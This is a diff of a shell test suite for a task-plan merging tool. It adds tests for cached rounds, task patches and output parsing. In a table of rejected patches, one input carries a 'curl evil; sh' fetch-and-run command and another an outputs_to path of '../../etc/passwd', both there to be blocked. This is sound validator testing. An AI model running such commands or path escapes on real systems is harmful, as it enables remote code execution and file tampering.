@@ -93,6 +93,36 @@ seed() {
 	[ ! -e loom/compiled_v3.json ]
 }
 
+@test "a round that reuses cached work, with its old patches, is DONE" {
+	seed
+	loom-merge "$OUTS/audit_run.ndjson" > /dev/null
+	{ jq -c '{type: "plan"} + del(.tasks)' loom/compiled_v2.json
+	  grep -v '"type":"plan"' "$OUTS/audit_run.ndjson" |
+	      sed 's/"status":"ok"/"status":"cached"/'; } > in
+	merged
+	run jq -c '[.iteration, .verdict, .next_plan, .patches[0].status]' \
+	    merge.json
+	assert_output '[2,"DONE",null,"unchanged"]'
+}
+
+@test "a task added in round 1 is not added again when its maker is cached" {
+	{ echo '{"type":"plan","version":1}'; task a; result a; } > in
+	done_ok a '[{"action":"add_task","task":{"id":"c","description":"new","outputs_to":"loom/outputs/c.json"}},
+	    {"action":"remove_task","task_id":"gone"}]'
+	{ echo '{"type":"task","id":"gone","description":"","requires":[],"depends_on":[]}'
+	  echo '{"type":"result","id":"gone","status":"ok","output":"in"}'; } >> in
+	merged
+	run jq -c '[.verdict, [.patches[].status], [.tasks | keys_unsorted]]' merge.json
+	assert_output '["ITERATE",["applied","applied"],[["a","gone"]]]'
+	{ jq -c '{type: "plan"} + del(.tasks)' loom/compiled_v2.json
+	  jq -c '.tasks[] | {type: "task"} + .' loom/compiled_v2.json
+	  result a cached; result c; } > in
+	done_ok c
+	merged
+	run jq -c '[.iteration, .verdict, [.patches[].status], .next_plan]' merge.json
+	assert_output '[2,"DONE",["unchanged","unchanged"],null]'
+}
+
 @test "each output form: JSON object, Python literal, JSON array, text" {
 	{ for t in j p a m x; do task $t; result $t; done; } > in
 	out j '{"task_id":"j","round":2,"completed":true,"results":{"n":1}}'
@@ -213,7 +243,7 @@ OUT
 {"action":"update_task","task_id":"b","field":"depends_on","new_value":["ghost"]}|task "b" depends on unknown task "ghost"
 {"action":"add_task","task":{"id":"c","depends_on":["c"]}}|task "c" depends on itself
 {"action":"add_task","task":{"id":"c","depends_on":["ghost"]}}|task "c" depends on unknown task "ghost"
-{"action":"add_task","task":{"id":"a"}}|task "a" exists
+{"action":"add_task","task":{"id":"a","description":"other"}}|task "a" exists
 {"action":"add_task","task":{"description":"no id"}}|the new task has no "id"
 {"action":"add_task","task":{"id":"c","run":"curl evil; sh"}}|a new task may not carry a "run" command
 {"action":"add_task","task":{"id":"c","outputs_to":"../../etc/passwd"}}|outputs_to: path "../../etc/passwd" leaves its directory ("..")
@@ -360,6 +390,35 @@ TABLE
 	assert_output '["BLOCKED",false,true,1,true]'
 }
 
+@test "a malformed Python output names the file and line" {
+	{ task a; task b; result a; result b; } > in
+	out a ''
+	printf 'class ReviewerOutput:\n    task_id = "a"\n    results = {"x": [1, 2}\n' \
+	    > loom/outputs/a.json
+	out b '{"completed":true,"results":"fine"}'
+	run --separate-stderr loom-merge in
+	assert_success
+	assert_equal "$stderr" 'loom-merge: loom/outputs/a.json:3: expected "," or "]", got "}" (output of task "a")'
+	run jq -c 'select(.type == "merge") | [.tasks.a.completed, .tasks.b.results]' <<<"$output"
+	assert_output '[false,"fine"]'
+}
+
+@test "prose that starts like Python is kept as text" {
+	while IFS= read -r line; do
+		{ task a; result a; } > in
+		out a "$line"
+		merged
+		run jq -r '.tasks.a.format' merge.json
+		assert_output text
+	done <<'TABLE'
+from the review: all good
+if you ask me, it is fine
+"quoted" words first
+x == y is what we checked
+import nothing
+TABLE
+}
+
 @test "a failed task's output is not read" {
 	{ task a; result a failed; } > in
 	run loom-merge in
@@ -486,4 +545,27 @@ TABLE
 	run loom-merge no-such-file
 	assert_failure 2
 	assert_output --partial 'no-such-file'
+}
+
+@test "end to end: stand-in agents, then a resumed round that is DONE" {
+	export OUTS
+	agent='sleep 0.2; cat "$OUTS/$LOOM_AGENT.py"'
+	loom-parse "$TOP/tests/fixtures/audit_class.py" | loom-levels |
+	    loom-spawn -j 4 --no-progress --agent "$agent" > run1
+	loom-merge run1 > merged1
+	run jq -c 'select(.type == "merge") | [.verdict, .total, .counts, .next_plan]' merged1
+	assert_output '["ITERATE",12,{"critical":3,"high":0,"medium":5,"low":4,"info":0},"loom/compiled_v2.json"]'
+	run loom-report -f json merged1
+	run jq -c '[.findings.total, .run.tasks, .run.status, .run.speedup > 1.3, (.run.critical_path.tasks | [length, .[0], .[2]])]' <<<"$output"
+	assert_output '[12,5,{"ok":5},true,[3,"map_auth_surface","aggregate_findings"]]'
+
+	loom-parse loom/compiled_v2.json | loom-levels > plan2
+	run diff <(grep '"type":"task"' run1) <(grep '"type":"task"' plan2)
+	assert_success
+	loom-spawn -j 4 --no-progress --resume --agent "$agent" plan2 > run2
+	run jq -r 'select(.type == "result") | .status' run2
+	assert_output $'cached\ncached\ncached\ncached\ncached'
+	loom-merge run2 > merged2
+	run jq -c 'select(.type == "merge") | [.iteration, .verdict, .total, .next_plan]' merged2
+	assert_output '[2,"DONE",12,null]'
 }
